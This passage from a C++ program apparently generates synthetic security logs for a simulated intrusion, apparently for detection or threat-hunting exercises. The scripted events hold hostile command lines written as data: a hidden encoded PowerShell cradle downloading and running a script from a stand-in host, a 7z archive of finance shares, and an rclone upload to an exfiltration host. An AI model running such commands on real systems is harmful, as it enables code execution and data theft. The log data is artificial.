    connection(victim, at(10, 5, 1), "mrivera", "WMIC.exe", "wmic.exe /node:srv-file-01",
               "10.20.2.10", 135, "");
    logon(server, at(10, 5, 2), "svc-backup", "Network", "LogonSuccess", "10.20.1.37",
          "ws-fin-07.corp.example", "", true);
    process(server, at(10, 5, 4), "svc-backup",
            {"powershell.exe", powershell_folder,
             "powershell.exe -nop -w hidden -enc " +
                 encoded_command(
                     "IEX (New-Object "
                     "Net.WebClient).DownloadString('http://update.invoice-docs.test/b.ps1')"),
             "WmiPrvSE.exe"},
            "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "High");
    connection(server, at(10, 5, 7), "svc-backup", "powershell.exe",
               "powershell.exe -nop -w hidden -enc", "198.51.100.77", 80,
               "http://update.invoice-docs.test/b.ps1");

    // 10:30 staging and exfiltration.
    process(
        server, at(10, 28, 0), "svc-backup",
        {"7z.exe", "C:\\PerfLogs",
         "7z.exe a -pInfected2026 C:\\PerfLogs\\q4.7z D:\\Shares\\finance\\*", "powershell.exe"},
        "powershell.exe -nop -w hidden", "High");
    file(server, at(10, 29, 40), "FileCreated", "q4.7z", "C:\\PerfLogs", "7z.exe", "svc-backup", "",
         "", 734003200);
    process(server, at(10, 31, 0), "svc-backup",
            {"rclone.exe", "C:\\PerfLogs",
             "rclone.exe copy C:\\PerfLogs\\q4.7z drop:incoming --transfers 8 --config "
             "C:\\PerfLogs\\rc.conf",
             "powershell.exe"},
            "powershell.exe -nop -w hidden", "High");
    for (int i = 0; i < 8; ++i)
      connection(server, at(10, 31, 5 + i * 7), "svc-backup", "rclone.exe",
                 "rclone.exe copy C:\\PerfLogs\\q4.7z drop:incoming", "203.0.113.88", 443,
                 "files.exfil-drop.example");

    // 11:20 the stolen password used from outside.
    for (int i = 0; i < 3; ++i)
      signin(at(11, 17, 10 * i), "mrivera", "Office 365 Exchange Online", "198.51.100.150", "NL",
             "Amsterdam", "50126",
             "Invalid username or password or Invalid on-premise username or password.", "medium",
             "Chrome 120.0.0");
    signin(at(11, 20, 3), "mrivera", "Office 365 Exchange Online", "198.51.100.150", "NL",
           "Amsterdam", "0", "", "medium", "Chrome 120.0.0");
  }

  std::filesystem::path out_;
  Random random_{20261120};
  std::map<std::string, Table> tables_;
  std::map<std::string, int64_t> report_ids_;
};

}  // namespace

int main(int argc, char** argv) {
  if (argc != 2) {
    std::fprintf(stderr, "usage: %s OUTPUT_DIR\n", argv[0]);
    return 2;
  }
  Generator(argv[1]).run();
  return 0;
}
